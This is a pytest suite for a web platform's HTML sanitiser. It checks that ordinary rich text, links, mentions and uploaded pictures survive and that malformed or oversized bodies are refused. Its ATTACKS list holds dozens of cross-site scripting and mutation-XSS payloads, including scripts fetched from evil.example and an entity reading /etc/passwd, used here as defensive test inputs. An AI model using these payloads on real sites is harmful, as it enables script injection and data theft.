"""The sanitiser: what people write comes through, what attackers write comes out harmless."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from p2psandbox.platform import richtext
from p2psandbox.platform.errors import Invalid
from p2psandbox.platform.textrules import FieldChecks

ID = "01a20470-90a6-7779-95c6-09a2ac260913"
#: Attributes that may come out, by element.
_ATTRIBUTES = {
    "a": {"href", "title", "rel", "class", "data-person"},
    "img": {"src", "alt", "loading", "width", "height"},
    "code": {"class"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "ol": {"start"},
}


_HARMLESS = re.compile(r"https?:|mailto:|[^:]*$|[/#?.]", re.IGNORECASE)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in richtext.TAGS:
            self.problems.append(f"element {tag}")
        for name, value in attrs:
            if name not in _ATTRIBUTES.get(tag, set()):
                self.problems.append(f"attribute {tag}.{name}")
            if name == "href" and not re.match(
                r"(https?:|mailto:|[^:]*$|[/#?.])", (value or "").strip(), re.IGNORECASE
            ):
                self.problems.append(f"address {value}")
            if name == "src" and not re.fullmatch(r"/files/[0-9a-f-]{36}/(large/)?", value or ""):
                self.problems.append(f"picture {value}")
        given = dict(attrs)
        if tag == "a" and ("class" in given or "data-person" in given):
            person = given.get("data-person")
            if given.get("class") != "mention" or given.get("href") != f"/people/{person}/":
                self.problems.append(f"mention {given}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")

    def unknown_decl(self, data: str) -> None:
        self.problems.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.problems.append("instruction")


def harm_in(html: str) -> list[str]:
    """Return what must not be in sanitised HTML."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


#: From OWASP's XSS filter evasion cheat sheet, DOMPurify's and html5sec's collections, and mutation XSS papers.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT/XSS SRC='https://evil.example/x.js'></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<IMG SRC='https://a.example/x.png' onmouseover=alert(1)>",
    "<img src=http://evil.example/track.gif>",
    "<img src=//evil.example/track.gif>",
    "<img src=/files/../../admin onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<a target=_blank href=https://evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<applet code=x></applet>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html xmlns:xss><xss onclick=alert(1)>x</xss></html>",
    "<x onclick=alert(1) contenteditable>x</x>",
    "<isindex action=javascript:alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<p id=x name=y class=z data-hx-get=/admin hx-get=/admin>x</p>",
    "<code class='language-js onload'>x</code>",
    "<ol start='1 onclick=alert(1)'>x</ol>",
    "<td colspan=1e9 rowspan=-1>x</td>",
    "<a href='https://a.example' rel=opener>x</a>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<p>\u0338</p><script>alert(1)</script>",
    "<b><b" + " x" * 50 + "><script>alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless_and_stays_so(attack: str) -> None:
    clean = richtext.sanitise(attack)

    assert harm_in(clean) == []
    assert richtext.sanitise(clean) == clean


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_typed_as_plain_text_is_shown_as_text(attack: str) -> None:
    html = richtext.from_plain_text(attack)

    assert harm_in(html) == []
    assert set(re.findall(r"<(\w+)", html)) <= {"p", "br", "a"}


_MARKUP = st.sampled_from(
    [
        *("<p>", "</p>", "<b>", "</b>", "<a href='", "'>", "</a>", "<img src=x alt='", "<table>", "<td>", "</table>"),
        *("<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<!--", "-->", "<![CDATA["),
        *("&lt;", "&#x3c;", "&amp;", "&", "<", ">", '"', "'", "javascript:", "onerror=", "\u0338", "\x00", "\ufeff"),
        *("<pre><code>", "</code></pre>", "<ul><li>", "</ul>", "<br>", "<h1>", "</h1>", "<title>", "<noscript>", " "),
    ]
)
_HTML = st.lists(st.one_of(_MARKUP, st.text(max_size=6)), max_size=25).map("".join)


@given(_HTML)
@example("<img src=x alt='\x1b'<p>")
@example("<a href='\"<a href='<p>")
@example("<h1><table><h1>")
@example("<img alt='e\u0301'>")
@example("<img src=x alt='=\u0338<p>")
@example("=<script></script>\u0338")
@example("=<svg></svg>\u0338")
@settings(max_examples=400, deadline=None)
def test_whatever_goes_in_only_the_allow_list_comes_out_and_twice_is_once(html: str) -> None:
    clean = richtext.sanitise(html)

    assert harm_in(clean) == []
    assert richtext.sanitise(clean) == clean
    clean.encode("utf-8")


@given(st.text(max_size=200))
@settings(deadline=None)
def test_plain_text_keeps_its_words(text: str) -> None:
    html = richtext.from_plain_text(text)

    assert harm_in(html) == []
    kept = "".join(richtext.to_text(html).split())
    assert all(word in kept for word in re.findall(r"[a-z]{3,}", text))


@given(st.one_of(_HTML, st.none(), st.integers(), st.lists(st.text())))
@settings(deadline=None)
def test_checking_never_raises_and_stores_only_what_is_safe(body: object) -> None:
    checks = FieldChecks()

    found = richtext.check(checks, "body", body)

    assert set(checks.problems) <= {"body"}
    assert harm_in(found.html) == []
    assert "\x00" not in found.text
    if not checks.problems:
        assert found.html


def test_what_people_write_comes_through() -> None:
    html = (
        "<h2>Two causes</h2><p>The <strong>relay</strong> and <em>the</em> <code>PLC</code>.</p>"
        '<ol start="3"><li>first</li></ol><blockquote><p>said</p></blockquote>'
        '<pre><code class="language-python">if x &lt; 1:\n    pass</code></pre>'
        '<table><thead><tr><th>bar</th></tr></thead><tbody><tr><td colspan="2">7</td></tr></tbody></table><hr>'
    )

    assert richtext.sanitise(html) == html


def test_links_are_marked_and_foreign_pictures_become_links() -> None:
    assert richtext.sanitise('<a href="https://a.example">x</a>') == (
        '<a href="https://a.example" rel="nofollow ugc noopener">x</a>'
    )
    picture = richtext.sanitise('<img src="https://a.example/p.png" alt="burnt relay">')
    assert picture == '<a href="https://a.example/p.png" rel="nofollow ugc noopener">burnt relay</a>'
    own = richtext.sanitise(f'<img src="/files/{ID}/large/" alt="relay" onerror="x" width="9">')
    assert own == f'<img src="/files/{ID}/large/" alt="relay" loading="lazy">'
    sized = f'<img src="/files/{ID}/" alt="relay" loading="lazy" width="640" height="480">'
    assert richtext.sanitise(sized) == sized


@pytest.mark.parametrize(
    "source",
    [
        "/files/x.png", f"/files/{ID}", f"/files/{ID}/../../accounts/logout/", f"/files/{ID}/large/?x=1",
        f"//evil/files/{ID}/",
        f"/files/{ID}/download/", f"/FILES/{ID}/", f" /files/{ID}/", f"/files/{ID}/\n", f"\\files\\{ID}\\",
        f"/files//{ID}/",
    ],
)  # fmt: skip
def test_only_the_lasting_address_of_a_file_is_a_picture(source: str) -> None:
    assert "<img" not in richtext.sanitise(f'<img src="{source}" alt="x">')


def test_a_mention_comes_through_and_what_only_looks_like_one_does_not() -> None:
    mention = f'<a href="/people/{ID}/" class="mention" data-person="{ID}" rel="nofollow ugc noopener">@Ada</a>'
    assert richtext.sanitise(mention) == mention
    for false in (
        f'<a href="https://evil.example/people/{ID}/" class="mention" data-person="{ID}">@Ada</a>',
        f'<a href="/people/{ID}/" class="mention button" data-person="{ID}">@Ada</a>',
        f'<a href="/people/{ID}/" data-person="{ID}">@Ada</a>',
        f'<a href="/people/{ID}/" class="mention" data-person="me">@Ada</a>',
        f'<p class="mention" data-person="{ID}"><a href="/people/{ID}/" class="mention">@Ada</a></p>',
    ):
        clean = richtext.sanitise(false)
        assert "data-person" not in clean
        assert "class" not in clean


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("", "Fill this in"),
        ("<p> </p>", "Fill this in"),
        ("<p>\ufeff</p>", "Fill this in"),
        ("<p>.</p>", "symbols"),
        ("<p>https://a.example</p>", "link"),
        ('<img src="https://a.example/p.png">', "link"),
        ("<p>aaaaaaaa</p>", "repeated"),
        ("<p>turned \u202e around</p>", "direction"),
        ("<p>bell \x07 rings</p>", "control"),
        ("x" * 60_001, "Shorten"),
        ("x" * 300_001, "Shorten"),
        ("<b>" * 100_000, "Simplify"),
    ],
)
def test_a_body_that_says_nothing_is_refused_with_what_to_do(body: str, says: str) -> None:
    checks = FieldChecks()

    richtext.check(checks, "body", body)

    with pytest.raises(Invalid, match=says):
        checks.done()


def test_a_mark_pasted_along_is_dropped_without_a_word() -> None:
    checks = FieldChecks()

    found = richtext.check(checks, "body", "<p>All dimensions are correct\ufeff</p>")

    assert checks.problems == {}
    assert found.text == "All dimensions are correct"


@pytest.mark.parametrize(
    "body",
    [
        "<b>" * 90_000,
        "<script " * 37_000,
        "<ul><li>" * 2_490,
        "&" * 299_000,
        "<a " + "x='' " * 59_000,
        "<b><p></b>" * 1_660,
    ],
    ids=["nested", "open script", "lists", "ampersands", "attributes", "misnested"],
)
def test_no_text_of_allowed_length_keeps_a_worker_busy(body: str) -> None:
    started = time.process_time()

    richtext.check(FieldChecks(), "body", body)

    assert time.process_time() - started < 8


def test_an_excerpt_is_one_line_cut_at_a_word() -> None:
    assert richtext.excerpt("one\ntwo  three", 200) == "one two three"
    assert richtext.excerpt("alpha beta, gamma delta", 14) == "alpha beta…"


def test_text_keeps_blocks_apart() -> None:
    html: Any = "<p>one</p><ul><li>two</li><li>three &amp; four</li></ul>"

    assert richtext.to_text(html) == "one\ntwo\nthree & four"
